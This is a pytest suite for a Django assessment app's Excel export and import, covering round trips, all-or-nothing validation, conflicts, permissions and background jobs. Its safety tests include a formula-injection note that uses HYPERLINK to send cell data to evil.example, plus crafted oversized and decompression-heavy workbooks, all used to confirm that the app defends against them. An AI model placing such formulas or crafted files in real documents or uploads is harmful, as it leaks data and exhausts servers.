"""Excel round trip: export, fill, import; all rows or none."""

import io
import re
import time
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from zona.assessments.excel import COL_ANSWER, COL_CODE, COL_NOTE, COL_REVISION, FIRST_ROW
from zona.assessments.models import (
    Answer,
    AnswerChange,
    AnswerSource,
    ImportJob,
    ImportJobStatus,
)
from zona.assessments.selectors import load_sheet_state
from zona.assessments.services import (
    answer_save,
    answers_import,
    evidence_link,
    evidence_upload,
)
from zona.assessments.tests.factories import MINI, make_assessment, make_period, pdf_file
from zona.audit.models import AuditEvent
from zona.core.errors import PermissionDenied, ValidationFailed
from zona.frameworks.services import framework_load_file
from zona.workflow.services.sheet import sheet_submit


def export(client, assessment):
    r = client.get(reverse("assessments:export", args=[assessment.pk]))
    assert r.status_code == 200
    assert r["Content-Type"].startswith("application/vnd.openxmlformats")
    return r.content


def rows(data):
    ws = load_workbook(io.BytesIO(data))["LKE"]
    return ws, {ws.cell(row=r, column=COL_CODE).value: r for r in range(FIRST_ROW, ws.max_row + 1)}


def save_wb(ws):
    out = io.BytesIO()
    ws.parent.save(out)
    return out.getvalue()


@pytest.fixture
def filled(world, assessment):
    op = world["operator"]
    answer_save(
        actor=op,
        assessment=assessment,
        item_code="A.p.m.1.a",
        revision=0,
        value="Ya",
        note="SK no. 1\nbaris dua",
    )
    answer_save(
        actor=op,
        assessment=assessment,
        item_code="A.r.m.1.a",
        revision=0,
        value={"change_agents": 10, "changes_made": 8},
    )
    answer_save(
        actor=op,
        assessment=assessment,
        item_code="A.r.m.1.b",
        revision=0,
        value={"violations_last_year": 3},
    )
    answer_save(actor=op, assessment=assessment, item_code="B.1.a", revision=0, value="3.61")
    answer_save(actor=op, assessment=assessment, item_code="B.2.a", revision=0, value="4")
    doc = evidence_upload(actor=op, unit=world.bandung, file=pdf_file()).evidence
    evidence_link(actor=op, assessment=assessment, item_code="A.p.m.1.a", evidence=doc)
    return assessment


def test_export_has_the_known_layout(client_for, world, filled):
    data = export(client_for(world["operator"]), filled)
    ws, index = rows(data)
    for code in (
        "A",
        "A.p",
        "A.p.m",
        "A.p.m.1",
        "A.p.m.1.a",
        "A.r.m.1.a#change_agents",
        "B.2.a",
        "TOTAL",
    ):
        assert code in index
    row = index["A.p.m.1.a"]
    assert ws.cell(row=row, column=COL_ANSWER).value == "Ya"
    assert ws.cell(row=row, column=COL_NOTE).value == "SK no. 1\nbaris dua"
    assert "sk-tim: http" in ws.cell(row=row, column=10).value
    assert "Ya (1) = Sudah dibentuk" in ws.cell(row=row, column=5).value
    assert ws.cell(row=index["A.r.m.1.a#changes_made"], column=COL_ANSWER).value == 8
    assert float(ws.cell(row=index["B.1.a"], column=COL_ANSWER).value) == 3.61
    assert ws.column_dimensions["K"].hidden


def test_an_unchanged_file_changes_nothing(client_for, world, filled):
    data = export(client_for(world["operator"]), filled)
    before = AnswerChange.objects.count()
    assert answers_import(actor=world["operator"], assessment=filled, data=data).changed == []
    assert AnswerChange.objects.count() == before


def test_import_applies_answers_notes_and_counts(client_for, world, filled):
    ws, index = rows(export(client_for(world["operator"]), filled))
    ws.cell(row=index["A.p.m.1.b"], column=COL_ANSWER, value="b")
    ws.cell(row=index["A.p.m.1.b"], column=COL_NOTE, value="dari Excel")
    ws.cell(row=index["A.r.m.1.b#violations_this_year"], column=COL_ANSWER, value=1)
    ws.cell(row=index["B.1.a"], column=COL_ANSWER, value="3,7")
    ws.cell(row=index["A.p.m.1.a"], column=COL_ANSWER).value = None
    result = answers_import(actor=world["operator"], assessment=filled, data=save_wb(ws))
    assert set(result.changed) == {"A.p.m.1.b", "A.r.m.1.b", "B.1.a", "A.p.m.1.a"}
    answers = load_sheet_state(filled).unit_answers
    assert answers["A.p.m.1.b"].value == "B"
    assert answers["A.p.m.1.b"].note == "dari Excel"
    assert answers["A.r.m.1.b"].value == {"violations_last_year": 3, "violations_this_year": 1}
    assert answers["B.1.a"].value == "3.7"
    assert answers["A.p.m.1.a"].value is None
    assert AnswerChange.objects.filter(via="import").count() == 5


def test_one_bad_row_applies_nothing_and_every_problem_is_listed(client_for, world, filled):
    ws, index = rows(export(client_for(world["operator"]), filled))
    ws.cell(row=index["A.p.m.1.b"], column=COL_ANSWER, value="A")  # fine on its own
    ws.cell(row=index["A.p.m.2.a"], column=COL_ANSWER, value="Z")
    ws.cell(row=index["A.r.m.1.a#changes_made"], column=COL_ANSWER, value=-2)
    ws.cell(row=index["B.1.a"], column=COL_ANSWER, value=7)
    ws.cell(row=ws.max_row + 1, column=COL_CODE, value="A.I.9.z")
    before = AnswerChange.objects.count()
    with pytest.raises(ValidationFailed) as exc:
        answers_import(actor=world["operator"], assessment=filled, data=save_wb(ws))
    found = {(p.row, p.field) for p in exc.value.problems}
    assert (index["A.p.m.2.a"], "A.p.m.2.a") in found
    assert (index["A.r.m.1.a#changes_made"], "A.r.m.1.a") in found
    assert (index["B.1.a"], "B.1.a") in found
    assert any(p.field == "A.I.9.z" for p in exc.value.problems)
    assert AnswerChange.objects.count() == before
    assert Answer.objects.filter(item_code="A.p.m.1.b").count() == 0


def test_a_change_made_in_zona_since_the_export_is_a_conflict(client_for, world, filled):
    ws, index = rows(export(client_for(world["operator"]), filled))
    answer_save(
        actor=world["wg_member"],
        assessment=filled,
        item_code="A.p.m.1.a",
        revision=1,
        value="Tidak",
    )
    ws.cell(row=index["A.p.m.1.a"], column=COL_NOTE, value="catatan baru")
    with pytest.raises(ValidationFailed) as exc:
        answers_import(actor=world["operator"], assessment=filled, data=save_wb(ws))
    assert exc.value.problems[0].code == "conflict"
    assert "Wg Member" in exc.value.problems[0].message
    # Rows nobody touched in the file do not conflict.
    ws2, index2 = rows(export(client_for(world["operator"]), filled))
    assert ws2.cell(row=index2["A.p.m.1.a"], column=COL_REVISION).value == 2


def test_working_group_import_is_limited_to_their_areas(client_for, world, filled):
    ws, index = rows(export(client_for(world["wg_member"]), filled))
    ws.cell(row=index["A.p.m.1.b"], column=COL_ANSWER, value="A")
    ws.cell(row=index["B.1.b"], column=COL_ANSWER, value="A")
    with pytest.raises(ValidationFailed) as exc:
        answers_import(actor=world["wg_member"], assessment=filled, data=save_wb(ws))
    assert [p.field for p in exc.value.problems] == ["B.1.b"]
    with pytest.raises(PermissionDenied):
        answers_import(actor=world["viewer"], assessment=filled, data=save_wb(ws))


def test_a_locked_sheet_imports_nothing_but_accepts_an_unchanged_file(client_for, world, filled):
    data = export(client_for(world["operator"]), filled)
    sheet_submit(actor=world["unit_head"], assessment=filled)
    assert answers_import(actor=world["operator"], assessment=filled, data=data).changed == []
    ws, index = rows(data)
    ws.cell(row=index["A.p.m.1.b"], column=COL_ANSWER, value="A")
    with pytest.raises(ValidationFailed):
        answers_import(actor=world["operator"], assessment=filled, data=save_wb(ws))


def test_files_of_another_sheet_or_not_excel_are_refused(client_for, world, period, filled):
    other = make_assessment(period, world.bogor)
    data = export(client_for(world["other_operator"]), other)
    with pytest.raises(ValidationFailed) as exc:
        answers_import(actor=world["operator"], assessment=filled, data=data)
    assert exc.value.problems[0].code == "other_assessment"
    with pytest.raises(ValidationFailed) as exc:
        answers_import(actor=world["operator"], assessment=filled, data=b"not a workbook")
    assert exc.value.problems[0].code == "not_xlsx"


def test_import_page_lists_problems(client_for, world, filled):
    client = client_for(world["operator"])
    ws, index = rows(export(client, filled))
    ws.cell(row=index["A.p.m.2.a"], column=COL_ANSWER, value="Z")
    from django.core.files.uploadedfile import SimpleUploadedFile

    r = client.post(
        reverse("assessments:import", args=[filled.pk]),
        {"file": SimpleUploadedFile("lke.xlsx", save_wb(ws))},
    )
    assert r.status_code == 400
    body = r.content.decode()
    assert 'data-testid="import-errors"' in body
    assert "A.p.m.2.a" in body
    assert str(index["A.p.m.2.a"]) in body
    ws.cell(row=index["A.p.m.2.a"], column=COL_ANSWER, value="B")
    r = client.post(
        reverse("assessments:import", args=[filled.pk]),
        {"file": SimpleUploadedFile("lke.xlsx", save_wb(ws))},
    )
    assert r.status_code == 302
    assert Answer.objects.get(item_code="A.p.m.2.a").value == "B"
    assert (
        client_for(world["viewer"]).get(reverse("assessments:import", args=[filled.pk])).status_code
        == 404
    )


def test_reviewer_layers_have_their_column_groups(client_for, world, filled):
    sheet_submit(actor=world["unit_head"], assessment=filled)
    answer_save(
        actor=world["tpi_reviewer"],
        assessment=filled,
        item_code="A.p.m.1.a",
        revision=0,
        value="Tidak",
        note="SK belum ditandatangani",
        tier=world.tier_tpi,
    )
    ws, index = rows(export(client_for(world["tpi_reviewer"]), filled))
    headers = [c.value for c in ws[5]]
    assert "TPI: answer" in headers or any(h and h.startswith("TPI:") for h in headers)
    row = index["A.p.m.1.a"]
    assert ws.cell(row=row, column=COL_REVISION + 1).value == "Tidak"
    assert ws.cell(row=row, column=COL_REVISION + 3).value == "SK belum ditandatangani"


# --- safety and losslessness (issue 8, §4) ---------------------------------------------------


def _sheet_xml(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


TRICKY_NOTES = {
    "A.p.m.1.a": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "A.p.m.1.b": "+62 812 3456",
    "A.p.m.2.a": "-5% dari target; @SUM(A1:A2)",
    "B.1.b": "@SUM(1,2)",
}


def test_formula_like_text_is_exported_as_text(client_for, world, filled):
    op = world["operator"]
    for code, note in TRICKY_NOTES.items():
        revision = Answer.objects.filter(item_code=code).values_list("revision", flat=True)
        answer_save(
            actor=op,
            assessment=filled,
            item_code=code,
            revision=revision[0] if revision else 0,
            note=note,
        )
    data = export(client_for(op), filled)
    assert "<f>" not in _sheet_xml(data)  # no cell is a formula
    ws, index = rows(data)
    for code, note in TRICKY_NOTES.items():
        cell = ws.cell(row=index[code], column=COL_NOTE)
        assert cell.value == note
        assert cell.data_type == "s"
        assert cell.quotePrefix


def test_untouched_export_with_equals_notes_and_line_breaks_changes_nothing(
    client_for, world, filled
):
    op = world["operator"]
    notes = {
        "A.p.m.1.b": "=target 100% tercapai",
        "A.p.m.2.a": "baris satu\r\nbaris dua",
        "B.1.b": "dari Word\x0bbaris baru\x01",
    }
    for code, note in notes.items():
        answer_save(actor=op, assessment=filled, item_code=code, revision=0, note=note)
    saved = {code: Answer.objects.get(item_code=code).note for code in notes}
    assert "\x0b" in saved["B.1.b"]
    data = export(client_for(op), filled)  # Word's \x0b used to give a server error here
    ws, index = rows(data)
    assert ws.cell(row=index["B.1.b"], column=COL_NOTE).value == "dari Word\nbaris baru"
    before = AnswerChange.objects.count()
    assert answers_import(actor=op, assessment=filled, data=data).changed == []
    assert AnswerChange.objects.count() == before
    for code, note in saved.items():
        assert Answer.objects.get(item_code=code).note == note
    # Changing the answer of such a row keeps its note as it was.
    ws.cell(row=index["B.1.b"], column=COL_ANSWER, value="A")
    assert answers_import(actor=op, assessment=filled, data=save_wb(ws)).changed == ["B.1.b"]
    assert Answer.objects.get(item_code="B.1.b").note == saved["B.1.b"]


def test_rows_changed_in_zona_after_the_export_but_untouched_in_the_file_are_left_alone(
    client_for, world, filled
):
    member = world["wg_member"]
    ws, index = rows(export(client_for(member), filled))
    # After the export: the operator changes an item outside the member's areas, and a
    # survey figure arrives for B.1.a.
    answer_save(
        actor=world["operator"], assessment=filled, item_code="B.1.b", revision=0, value="C"
    )
    b_i_a = Answer.objects.get(item_code="B.1.a")
    b_i_a.value, b_i_a.source, b_i_a.revision = "3.39", AnswerSource.SURVEY, b_i_a.revision + 1
    b_i_a.save()
    ws.cell(row=index["A.p.m.1.b"], column=COL_ANSWER, value="A")
    result = answers_import(actor=member, assessment=filled, data=save_wb(ws))
    assert result.changed == ["A.p.m.1.b"]
    assert Answer.objects.get(item_code="B.1.b").value == "C"
    assert Answer.objects.get(item_code="B.1.a").value == "3.39"
    assert Answer.objects.get(item_code="A.p.m.1.b").value == "A"


def test_pct_rows_show_labels_and_reviewer_counts_never_raw_keys(client_for, world, filled):
    sheet_submit(actor=world["unit_head"], assessment=filled)
    answer_save(
        actor=world["tpi_reviewer"],
        assessment=filled,
        item_code="A.r.m.1.a",
        revision=0,
        value={"change_agents": 10, "changes_made": 5},
        tier=world.tier_tpi,
    )
    ws, index = rows(export(client_for(world["tpi_reviewer"]), filled))
    texts = [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]
    assert not any("change_agents=" in t or "changes_made=" in t for t in texts)
    count_row = index["A.r.m.1.a#changes_made"]
    assert ws.cell(row=count_row, column=2).value == "Perubahan yang dibuat"
    assert ws.cell(row=count_row, column=COL_REVISION + 1).value == 5


def _with_sheet_xml(data, change):
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for entry in src.infolist():
            body = src.read(entry.filename)
            if entry.filename == "xl/worksheets/sheet1.xml":
                body = change(body.decode()).encode()
            dst.writestr(entry, body, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


@pytest.mark.parametrize("attack", ["dimension", "far_row", "unzips_huge"])
def test_a_crafted_workbook_is_refused_fast(client_for, world, filled, attack):
    data = export(client_for(world["operator"]), filled)
    if attack == "dimension":
        crafted = _with_sheet_xml(
            data,
            lambda xml: re.sub(r'<dimension ref="[^"]+"', '<dimension ref="A1:XFD1048576"', xml),
        )
    elif attack == "far_row":
        crafted = _with_sheet_xml(
            data,
            lambda xml: re.sub(r"<dimension [^>]+/>", "", xml).replace(
                "</sheetData>",
                '<row r="1048000"><c r="A1048000" t="inlineStr"><is><t>A.p.m.1.a</t></is></c>'
                "</row></sheetData>",
            ),
        )
    else:
        crafted = _with_sheet_xml(
            data, lambda xml: xml.replace("</worksheet>", " " * (60 * 1024 * 1024) + "</worksheet>")
        )
    assert len(crafted) < 200 * 1024
    started = time.monotonic()
    with pytest.raises(ValidationFailed) as exc:
        answers_import(actor=world["operator"], assessment=filled, data=crafted)
    assert time.monotonic() - started < 3
    assert exc.value.problems[0].code == "too_large"
    assert AnswerChange.objects.filter(via="import").count() == 0


def test_limits_are_settings(client_for, world, filled, settings):
    data = export(client_for(world["operator"]), filled)
    settings.ZONA_IMPORT_MAX_ROWS = 20
    with pytest.raises(ValidationFailed) as exc:
        answers_import(actor=world["operator"], assessment=filled, data=data)
    assert exc.value.problems[0].code == "too_large"
    settings.ZONA_IMPORT_MAX_ROWS = 20_000
    settings.ZONA_IMPORT_MAX_BYTES = 1000
    with pytest.raises(ValidationFailed) as exc:
        answers_import(actor=world["operator"], assessment=filled, data=data)
    assert exc.value.problems[0].code == "too_large"


@pytest.fixture
def bounded_assessment(world, tmp_path):
    """The mini framework with the sanctioned count bounded by this year's violations."""
    text = MINI.read_text(encoding="utf-8")
    text = text.replace("key: mini-lke", "key: mini-bounds").replace(
        'en: "Sanctioned"}, informational: true}',
        'en: "Sanctioned"}, informational: true, at_most: [violations_this_year]}',
    )
    assert "at_most" in text
    path = tmp_path / "mini-bounds.yaml"
    path.write_text(text, encoding="utf-8")
    framework = framework_load_file(path=path).framework
    period = make_period(world.agency, framework, creator=world["agency_admin"])
    return make_assessment(period, world.bandung)


def test_count_bounds_apply_on_the_worksheet_and_the_import(client_for, world, bounded_assessment):
    op = world["operator"]
    too_many = {"violations_last_year": 4, "violations_this_year": 2, "sanctioned": 3}
    with pytest.raises(ValidationFailed) as exc:
        answer_save(
            actor=op,
            assessment=bounded_assessment,
            item_code="A.r.m.1.b",
            revision=0,
            value=too_many,
        )
    assert exc.value.problems[0].code == "invalid_answer"
    assert exc.value.problems[0].field == "sanctioned"
    ws, index = rows(export(client_for(op), bounded_assessment))
    for key, count in too_many.items():
        ws.cell(row=index[f"A.r.m.1.b#{key}"], column=COL_ANSWER, value=count)
    with pytest.raises(ValidationFailed) as exc:
        answers_import(actor=op, assessment=bounded_assessment, data=save_wb(ws))
    assert [(p.row, p.field) for p in exc.value.problems] == [
        (index["A.r.m.1.b#sanctioned"], "A.r.m.1.b")
    ]
    assert not Answer.objects.filter(item_code="A.r.m.1.b").exists()
    ws.cell(row=index["A.r.m.1.b#sanctioned"], column=COL_ANSWER, value=2)
    answers_import(actor=op, assessment=bounded_assessment, data=save_wb(ws))
    stored = Answer.objects.get(item_code="A.r.m.1.b").value
    assert stored is not None
    assert stored["sanctioned"] == 2


# --- large imports in the background ----------------------------------------------------------


def _upload(client, assessment, data):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return client.post(
        reverse("assessments:import", args=[assessment.pk]),
        {"file": SimpleUploadedFile("lke-besar.xlsx", data)},
    )


def test_a_large_import_runs_in_the_background_and_says_what_changed(
    client_for, world, filled, settings
):
    settings.ZONA_IMPORT_BACKGROUND_BYTES = 1000  # every exported file is "large" here
    client = client_for(world["operator"])
    ws, index = rows(export(client, filled))
    ws.cell(row=index["A.p.m.1.b"], column=COL_ANSWER, value="A")
    r = _upload(client, filled, save_wb(ws))
    job = ImportJob.objects.get()
    assert r.status_code == 302
    assert r["Location"] == reverse("assessments:import_job", args=[filled.pk, job.pk])
    # The test settings run tasks at once; the worker does the same with the database backend.
    assert job.status == ImportJobStatus.DONE
    assert job.changed == ["A.p.m.1.b"]
    assert bytes(job.data) == b""  # the file is not kept once applied
    assert Answer.objects.get(item_code="A.p.m.1.b").value == "A"
    assert AuditEvent.objects.filter(action="assessment.import_queued").count() == 1
    page = client.get(r["Location"])
    body = page.content.decode()
    assert page.status_code == 200
    assert 'data-status="done"' in body
    assert "A.p.m.1.b" in body
    assert "hx-trigger" not in body  # finished: no more polling
    partial = client.get(r["Location"], HTTP_HX_REQUEST="true")
    assert "<html" not in partial.content.decode()
    assert 'data-status="done"' in partial.content.decode()


def test_a_background_import_with_a_bad_row_changes_nothing_and_lists_it(
    client_for, world, filled, settings
):
    settings.ZONA_IMPORT_BACKGROUND_BYTES = 1000
    client = client_for(world["operator"])
    ws, index = rows(export(client, filled))
    ws.cell(row=index["A.p.m.1.b"], column=COL_ANSWER, value="A")
    ws.cell(row=index["A.p.m.2.a"], column=COL_ANSWER, value="Z")
    r = _upload(client, filled, save_wb(ws))
    job = ImportJob.objects.get()
    assert job.status == ImportJobStatus.FAILED
    assert [(p["row"], p["field"]) for p in job.problems] == [(index["A.p.m.2.a"], "A.p.m.2.a")]
    assert not Answer.objects.filter(item_code="A.p.m.1.b").exists()
    body = client.get(r["Location"]).content.decode()
    assert 'data-testid="import-errors"' in body
    assert "A.p.m.2.a" in body


def test_a_running_import_is_polled_with_its_progress(client_for, world, filled):
    job = ImportJob.objects.create(
        assessment=filled,
        created_by=world["operator"],
        file_name="lke.xlsx",
        status=ImportJobStatus.READING,
        rows_done=25,
        rows_total=100,
    )
    url = reverse("assessments:import_job", args=[filled.pk, job.pk])
    body = client_for(world["operator"]).get(url).content.decode()
    assert f'hx-get="{url}"' in body
    assert 'hx-trigger="every 1s"' in body
    assert 'aria-valuenow="25"' in body


def test_only_the_person_who_started_an_import_follows_it(client_for, world, filled, period):
    job = ImportJob.objects.create(
        assessment=filled, created_by=world["operator"], status=ImportJobStatus.DONE
    )
    url = reverse("assessments:import_job", args=[filled.pk, job.pk])
    for persona in ("wg_member", "other_operator", "viewer"):
        assert client_for(world[persona]).get(url).status_code == 404
    other = make_assessment(period, world.bogor)
    elsewhere = reverse("assessments:import_job", args=[other.pk, job.pk])
    assert client_for(world["operator"]).get(elsewhere).status_code == 404
    missing = reverse("assessments:import_job", args=[filled.pk, job.pk + 1])
    assert client_for(world["operator"]).get(missing).status_code == 404
